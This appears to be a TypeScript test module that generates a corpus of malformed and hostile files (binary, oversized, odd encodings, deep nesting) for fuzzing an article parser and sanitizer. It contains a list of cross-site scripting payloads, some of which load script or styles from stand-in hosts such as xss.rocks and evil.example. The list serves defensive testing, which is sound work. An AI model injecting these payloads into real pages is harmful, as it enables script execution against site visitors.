import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { MAX_ARTICLE_BYTES } from '../../shared/articles/decode.ts';
import { prng, SEED } from './reliability-config.ts';

/** The hostile corpus: the files of tests/fixtures/hostile, and ones only code can make. */

const DIR = fileURLToPath(new URL('../fixtures/hostile/', import.meta.url));

export interface HostileFile {
  name: string;
  body: Uint8Array;
}

/** The files of the fixture folder. */
export function corpusFiles(folder = ''): HostileFile[] {
  const dir = `${DIR}${folder}`;
  return readdirSync(dir, { withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== 'README')
    .map((entry) => `${folder}${entry.name}`)
    .sort()
    .map((name) => ({ name, body: new Uint8Array(readFileSync(`${DIR}${name}`)) }));
}

const utf8 = (text: string) => new TextEncoder().encode(text);

function utf16(text: string, littleEndian: boolean, bom: boolean): Uint8Array {
  const units = [...(bom ? [0xfeff] : []), ...Array.from(text, (_, i) => text.charCodeAt(i))];
  const view = new DataView(new ArrayBuffer(units.length * 2));
  units.forEach((unit, i) => {
    view.setUint16(i * 2, unit, littleEndian);
  });
  return new Uint8Array(view.buffer);
}

const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.length;
  }
  return out;
};

const XSS_MD =
  '---\ntitle: "<svg onload=alert(1)>UTF-16 article"\nlink: "javascript:alert(2)"\n---\n\n<img src=x onerror=alert(3)><script>alert(4)</script>Body.\n';

/** Files no editor would save on purpose: binary, huge, odd encodings, absurd structure. */
export function generatedFiles(): HostileFile[] {
  const random = prng(SEED + 9);
  const noise = (n: number) => Uint8Array.from({ length: n }, () => Math.floor(random() * 256));
  const paragraph = 'A paragraph of an article that goes on and on. '.repeat(20);
  return [
    { name: 'binary.txt', body: noise(4096) },
    {
      name: 'png-disguised.md',
      body: concat(Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), noise(2048)),
    },
    {
      name: 'gzip-disguised.json',
      body: concat(Uint8Array.of(0x1f, 0x8b, 0x08, 0x00), noise(1024)),
    },
    {
      name: 'huge.md',
      body: utf8(`---\ntitle: Huge\n---\n\n${'x'.repeat(MAX_ARTICLE_BYTES + 1024)}\n`),
    },
    // Large but storable: an article item must fit DynamoDB's 400 KB (see the suite's report).
    {
      name: 'large-300k.md',
      body: utf8(
        `---\ntitle: Large\n---\n\n${`${paragraph}\n\n`.repeat(Math.floor(300_000 / (paragraph.length + 2)))}`,
      ),
    },
    { name: 'utf16le-bom.md', body: utf16(XSS_MD, true, true) },
    {
      name: 'utf16be-bom.txt',
      body: utf16('UTF-16BE wire\n\nBody <script>alert(1)</script> <b>text</b>.\n', false, true),
    },
    { name: 'utf16-no-bom.txt', body: utf16('Title without a BOM\n\nBody.\n', true, false) },
    { name: 'utf32-bom.txt', body: concat(Uint8Array.of(0xff, 0xfe, 0, 0), noise(64)) },
    { name: 'utf8-bom.md', body: concat(Uint8Array.of(0xef, 0xbb, 0xbf), utf8(XSS_MD)) },
    {
      name: 'invalid-utf8.txt',
      body: concat(
        utf8('Smart quotes '),
        Uint8Array.of(0x93, 0x71, 0x94, 0xc0, 0xbc),
        utf8('script'),
        Uint8Array.of(0xc0, 0xbe),
        utf8('\n\nBody \x96 dash.\n'),
      ),
    },
    { name: 'empty.md', body: new Uint8Array() },
    { name: 'whitespace.txt', body: utf8(' \n\t\r\n\u00a0\u200b\n') },
    {
      name: 'deep-nesting.md',
      body: utf8(`---\ntitle: Deep\n---\n\n${'<div>'.repeat(20_000)}x${'</div>'.repeat(20_000)}\n`),
    },
    { name: 'deep-json.json', body: utf8(`${'['.repeat(50_000)}${']'.repeat(50_000)}`) },
    {
      name: 'many-links.md',
      body: utf8(
        `---\ntitle: Many links\n---\n\n${Array.from({ length: 5000 }, (_, i) => (i % 2 ? `<a href="javascript:alert(${i})">x</a>` : `<a href="https://example.com/${i}">y</a>`)).join(' ')}\n`,
      ),
    },
    { name: 'long-title.txt', body: utf8(`${'<b>Long</b> title '.repeat(5000)}\n\nBody.\n`) },
    { name: 'page.html', body: utf8('<script>alert(1)</script>') },
    { name: 'no-extension', body: utf8('Title\n\nBody.\n') },
    {
      name: 'upper.MD',
      body: utf8('---\ntitle: Upper-case extension <script>x</script>\n---\n\nBody.\n'),
    },
  ];
}

/** Every file of the corpus, generated ones under `generated/`, `fuzz` random ones under `fuzz/`. */
export function hostileFiles(fuzz: number): HostileFile[] {
  return [
    ...corpusFiles(),
    ...generatedFiles().map((f) => ({ ...f, name: `generated/${f.name}` })),
    ...fuzzFiles(fuzz).map((f) => ({ ...f, name: `fuzz/${f.name}` })),
  ];
}

/** Pieces of hostile markup and text, combined at random by {@link fuzzFiles}. */
const FRAGMENTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.rocks/xss.js></SCRIPT>',
  '<img src=x onerror=alert(2)>',
  '<IMG SRC="jav&#x09;ascript:alert(3)">',
  '<a href="javascript:alert(4)">a</a>',
  '<a href=" &#14; javascript:alert(5)">b</a>',
  '<a href="&#106;avascript:alert(6)">c</a>',
  '<svg/onload=alert(7)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<math><mtext><style><img src onerror=alert(8)></style></mtext></math>',
  '<style>@import "//evil.example/x.css";</style>',
  '<base href="javascript:alert(9)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(10)">',
  '<object data="data:text/html,<script>alert(11)</script>"></object>',
  '<p style="background:url(javascript:alert(12))" onclick="alert(13)">p</p>',
  '<details open ontoggle=alert(14)>',
  '<!--<img src="--><img src=x onerror=alert(15)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
  '[md](javascript:alert(17))',
  '![md](javascript:alert(18))',
  ']]>',
  ']]>]]>',
  '<![CDATA[',
  '\u0000\u0001\u0008\u000b\u001b',
  '\ud800',
  '\udfff',
  '\u202e\u2066\u200b',
  '\ufffe\uffff',
  '&amp;lt;',
  '&#0;',
  'onion=tasty onload=text',
  'javascript:alert(19)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '//evil.example/x',
  '😀👨‍👩‍👧',
  'مرحبا שלום',
];

const pick = (random: () => number) => FRAGMENTS[Math.floor(random() * FRAGMENTS.length)] ?? '';
const some = (random: () => number, n: number) =>
  Array.from({ length: 1 + Math.floor(random() * n) }, () => pick(random)).join(' ');
/** Plain-text fields (titles, tag and author names) made of the same hostile fragments. */
const plain = (random: () => number) => some(random, 3);

/** `count` articles made of random hostile fragments, in the three formats. */
export function fuzzFiles(count: number): HostileFile[] {
  const random = prng(SEED + 10);
  return Array.from({ length: count }, (_, i) => {
    const [title, tag, author] = [plain(random), plain(random), plain(random)];
    const fields = {
      title: `Fuzz ${i} ${title}`,
      summary: some(random, 3),
      link: pick(random),
      image: pick(random),
      tags: [tag, 'fuzz'],
      authors: [author || 'Fuzz'],
    };
    const body = some(random, 12);
    const format = i % 3;
    if (format === 0)
      return { name: `${i}.json`, body: utf8(JSON.stringify({ ...fields, content: body })) };
    if (format === 1)
      return { name: `${i}.txt`, body: utf8(`${fields.title}\n\n${body}\n\n${tag},\n`) };
    const yaml = Object.entries(fields).map(([k, v]) => `${k}: ${JSON.stringify(v)}`);
    return { name: `${i}.md`, body: utf8(`---\n${yaml.join('\n')}\n---\n\n${body}\n`) };
  });
}
